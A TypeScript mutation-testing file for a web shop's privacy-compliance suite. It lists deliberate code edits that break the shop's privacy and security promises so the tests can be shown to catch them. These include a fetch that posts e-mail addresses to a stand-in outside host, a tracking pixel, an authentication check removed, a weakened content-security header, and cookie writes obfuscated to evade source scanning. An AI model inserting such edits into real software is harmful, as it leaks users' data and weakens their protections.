import type { Mutation } from './mutation.ts';
import { mutationsOfBreaches } from './mutations-of-breaches.ts';
import { mutationsOfConsent } from './mutations-of-consent.ts';
import { mutationsOfFraud } from './mutations-of-fraud.ts';
import { mutationsOfPageViews } from './mutations-of-page-views.ts';
import { mutationsOfRetention } from './mutations-of-retention.ts';

const registerTest = 'test/promises/judge-register.test.ts';
const declaredTest = 'test/promises/declared.test.ts';
const builtSite = 'test/promises/built-site.worker.test.ts';

/** Each way of breaking the policy that somebody might really take, with the check that must notice it. */
export const mutations: readonly Mutation[] = [
  {
    name: 'A word of the policy is changed in its declaration',
    breaks: ['children.no-data'],
    edits: [
      {
        file: 'src/policy/document.ts',
        find: 'We do not knowingly collect personal data from minors.',
        replace: 'We do not intentionally collect personal data from minors.',
      },
    ],
    check: { kind: 'unit', file: registerTest },
  },
  {
    name: 'A sentence is taken out of the policy',
    breaks: ['use.no-automated-decisions'],
    edits: [
      {
        file: 'src/policy/document.ts',
        find: `
        say('use.no-automated-decisions', 'We do not use your data for automated decision-making or profiling.'),`,
        replace: '',
      },
    ],
    check: { kind: 'unit', file: registerTest },
  },
  {
    name: 'An owner’s duty is emptied',
    breaks: ['transfer.sccs'],
    edits: [
      {
        file: 'src/policy/owner-duties.ts',
        find: `'The Standard Contractual Clauses with Stripe, the host and the e-mail service are signed and on file.'`,
        replace: `''`,
      },
    ],
    check: { kind: 'unit', file: registerTest },
  },
  {
    name: 'A test that proves a sentence is skipped',
    breaks: ['basis.contract'],
    edits: [{ file: declaredTest, find: `test('[basis.contract]`, replace: `test.runIf(false)('[basis.contract]` }],
    check: { kind: 'register', file: declaredTest },
  },
  {
    name: 'A test carries an id that no sentence has',
    breaks: ['transfer.global'],
    edits: [{ file: declaredTest, find: `test('[transfer.global]`, replace: `test('[transfer.globally]` }],
    check: { kind: 'register', file: declaredTest },
  },
  {
    name: 'Analytics are kept for 31 days instead of 30',
    breaks: ['retention.analytics'],
    edits: [
      {
        file: 'src/policy/retention.ts',
        find: `    keep: { days: 30 },
    from: 'the page view',`,
        replace: `    keep: { days: 31 },
    from: 'the page view',`,
      },
    ],
    check: { kind: 'unit', file: declaredTest },
  },
  {
    name: 'Orders are kept for 8 years instead of 7',
    breaks: ['retention.orders'],
    edits: [{ file: 'src/policy/retention.ts', find: 'keep: { years: 7 }', replace: 'keep: { years: 8 }' }],
    check: { kind: 'unit', file: declaredTest },
  },
  {
    name: 'A gift of data is declared: another recipient',
    breaks: ['use.no-sale'],
    edits: [
      {
        file: 'src/policy/recipients.ts',
        find: `export const recipients = {`,
        replace: `export const recipients = {
  'data-broker': {
    name: 'A broker',
    purpose: 'Advertising',
    location: 'Global',
    role: 'controller',
    serves: ['marketing'],
    safeguard: 'none',
    reachedBy: ['broker.example.com'],
    sees: ['order-information'],
  },`,
      },
    ],
    check: { kind: 'unit', file: declaredTest },
  },
  {
    name: 'A gateway fetches from a new host',
    breaks: ['use.no-sale'],
    edits: [
      {
        file: 'functions/gateways/email.ts',
        find: 'async send(email: Email): Promise<Delivery> {',
        replace: `async send(email: Email): Promise<Delivery> {
    await fetch('https://collect.example.com/letters', { method: 'POST', body: email.to });`,
      },
    ],
    check: { kind: 'unit', file: 'test/promises/outbound-hosts.test.ts' },
  },
  {
    name: 'An act calls out by itself',
    breaks: ['use.no-sale'],
    edits: [
      {
        file: 'functions/orders/place-order.ts',
        find: `  const reasons = await differences(`,
        replace: `  await fetch(shop.config.siteOrigin);
  const reasons = await differences(`,
      },
    ],
    check: { kind: 'unit', file: 'test/architecture/outbound-calls.test.ts' },
  },
  {
    name: 'A token for another application opens the desk',
    breaks: ['security.access'],
    edits: [{ file: 'functions/staff/verify-token.ts', find: `audience: shop.config.accessAudience,`, replace: `` }],
    check: { kind: 'unit', file: 'test/staff/verify-token.test.ts' },
  },
  {
    name: 'A browser script writes a fifth key',
    breaks: ['storage.no-cookies'],
    edits: [
      {
        file: 'src/browser/header.ts',
        find: `showChoice();
showCount();
// `,
        replace: `localStorage.setItem('lg_recent', location.pathname);
showChoice();
showCount();
// `,
      },
    ],
    check: { kind: 'unit', file: 'test/architecture/browser-storage.test.ts' },
  },
  {
    name: 'A page’s script sets a cookie',
    breaks: ['storage.no-cookies'],
    edits: [
      {
        file: 'src/browser/header.ts',
        find: `showChoice();
showCount();
// `,
        replace: `document.cookie = 'seen=1';
showChoice();
showCount();
// `,
      },
    ],
    check: { kind: 'unit', file: 'test/architecture/browser-storage.test.ts' },
  },
  {
    name: 'The Worker sets a cookie',
    breaks: ['storage.no-cookies'],
    edits: [
      {
        file: 'functions/app.ts',
        find: `app.use(requireEncryption);`,
        replace: `app.use(requireEncryption);
app.use(async (context, next) => {
  await next();
  context.header('Set-Cookie', 'seen=1');
});`,
      },
    ],
    check: { kind: 'unit', file: 'test/architecture/browser-storage.test.ts' },
  },
  {
    name: 'A migration adds a column to the orders',
    breaks: ['basis.scope'],
    edits: [{ file: 'functions/migrations/9999_birthday.sql', text: 'ALTER TABLE orders ADD COLUMN birthday TEXT;\n' }],
    check: { kind: 'worker', file: 'test/data-map/data-map.worker.test.ts', only: 'basis.scope', asBuilt: true },
  },
  {
    name: 'A migration adds a table',
    breaks: ['basis.scope'],
    edits: [
      {
        file: 'functions/migrations/9999_reviews.sql',
        text: 'CREATE TABLE reviews (id INTEGER PRIMARY KEY, email TEXT NOT NULL, stars INTEGER NOT NULL) STRICT;\n',
      },
    ],
    check: { kind: 'worker', file: 'test/data-map/data-map.worker.test.ts', only: 'basis.scope', asBuilt: true },
  },
  ...mutationsOfRetention,
  {
    name: 'Stripe is sent a field that nobody declared',
    breaks: ['share.stripe'],
    edits: [
      {
        file: 'functions/gateways/stripe.ts',
        find: `submit_type: 'pay',`,
        replace: `submit_type: 'pay',
    client_reference_id: request.checkoutId,`,
      },
    ],
    check: { kind: 'worker', file: 'test/outbound/outbound-calls.worker.test.ts' },
  },
  {
    name: 'A word of the built page differs from its declaration',
    breaks: ['storage.page-views'],
    edits: [
      {
        file: 'src/components/legal/PolicyPart.astro',
        find: `<InlineText text={cell} />`,
        replace: `<InlineText text={cell.replace('30 days', '60 days')} />`,
      },
    ],
    check: { kind: 'worker', file: 'test/policy/privacy-page.worker.test.ts' },
  },
  {
    name: 'Pages may be framed by other sites',
    breaks: ['security.measures'],
    edits: [
      {
        file: 'public/_headers',
        find: `Content-Security-Policy: object-src 'none'; base-uri 'none'; frame-ancestors 'none';`,
        replace: `Content-Security-Policy: object-src 'none'; base-uri 'none';`,
      },
    ],
    check: { kind: 'worker', file: 'test/security/measures.worker.test.ts', only: 'every page of the site' },
  },
  {
    name: 'The Worker answers over an encryption that is too old',
    breaks: ['security.tls'],
    edits: [{ file: 'functions/app.ts', find: `app.use(requireEncryption);\n`, replace: '' }],
    check: { kind: 'worker', file: 'test/security/measures.worker.test.ts', only: 'security.tls' },
  },
  {
    name: 'A page has a pixel from another origin',
    breaks: ['storage.no-trackers'],
    edits: [
      {
        file: 'src/components/Footer.astro',
        find: `</footer>`,
        replace: `<img src="https://pixel.example.com/1.gif" alt="" width="1" height="1"></footer>`,
      },
    ],
    check: { kind: 'worker', file: builtSite },
  },
  {
    name: 'A page asks for a date of birth',
    breaks: ['children.no-data'],
    edits: [
      {
        file: 'src/components/bag/BagChoices.astro',
        find: `<select id="country"`,
        replace: `<input type="date" autocomplete="bday" aria-label="Date of birth">
      <select id="country"`,
      },
    ],
    check: { kind: 'worker', file: builtSite },
  },
  {
    name: 'The brand of the card is read and kept with the order',
    breaks: ['collect.payment-information', 'collect.payment-status'],
    edits: [
      {
        file: 'functions/gateways/stripe.ts',
        find: `{ expand: ['payment_intent'] }`,
        replace: `{ expand: ['payment_intent.latest_charge'] }`,
      },
      {
        file: 'functions/gateways/stripe.ts',
        find: `payment_intent: z.object({`,
        replace: `payment_intent: z.object({ latest_charge: z.any(),`,
      },
      {
        file: 'functions/orders/place-order.ts',
        find: `reviewReason: reasons.join(', '),`,
        replace: `reviewReason: session.payment_intent?.latest_charge?.payment_method_details?.card?.brand ?? '',`,
      },
    ],
    check: { kind: 'worker', file: 'test/payments/webhook.worker.test.ts', only: 'nothing of the card' },
  },
  {
    name: 'A visitor is refused by a rule about where they are',
    breaks: ['use.no-automated-decisions'],
    edits: [
      {
        file: 'functions/checkout/routes.ts',
        find: `  const body = await readJsonValue(context.req.raw);
  if (isProblem(body)) return problemResponse(body);
  const wish`,
        replace: `  if (context.req.header('CF-IPCountry') === 'RU') return context.body(null, 403);
  const body = await readJsonValue(context.req.raw);
  if (isProblem(body)) return problemResponse(body);
  const wish`,
      },
    ],
    check: { kind: 'worker', file: 'test/promises/paid-order.worker.test.ts', only: 'no-automated-decisions' },
  },
  ...mutationsOfBreaches,
  ...mutationsOfConsent,
  ...mutationsOfFraud,
  ...mutationsOfPageViews,
  {
    name: 'A browser script writes a fifth key, past what can be read in its source',
    breaks: ['storage.luxevault_cart', 'storage.lg_currency'],
    edits: [
      {
        file: 'src/browser/header.ts',
        find: `showChoice();
showCount();
// `,
        replace: `Reflect.get(globalThis, ['local', 'Storage'].join('')).setItem('lg_recent', location.pathname);
showChoice();
showCount();
// `,
      },
    ],
    check: { kind: 'journeys', file: 'test/traces/every-page.browser.test.ts', only: 'a first visit leaves nothing' },
  },
  {
    name: 'A page’s script sets a cookie, past what can be read in its source',
    breaks: ['storage.no-cookies'],
    edits: [
      {
        file: 'src/browser/header.ts',
        find: `showChoice();
showCount();
// `,
        replace: `Reflect.set(document, ['coo', 'kie'].join(''), 'seen=1');
showChoice();
showCount();
// `,
      },
    ],
    check: { kind: 'journeys', file: 'test/traces/every-page.browser.test.ts', only: 'a first visit leaves nothing' },
  },
  {
    name: 'The Worker sets a cookie, past what can be read in its source',
    breaks: ['storage.no-cookies'],
    edits: [
      {
        file: 'functions/app.ts',
        find: `app.use(requireEncryption);`,
        replace: `app.use(requireEncryption);
app.use(async (context, next) => {
  await next();
  context.header(['Set', 'Cookie'].join('-'), 'seen=1; Path=/');
});`,
      },
    ],
    check: { kind: 'journeys', file: 'test/traces/every-page.browser.test.ts', only: 'a bag is kept, and nothing' },
  },
];
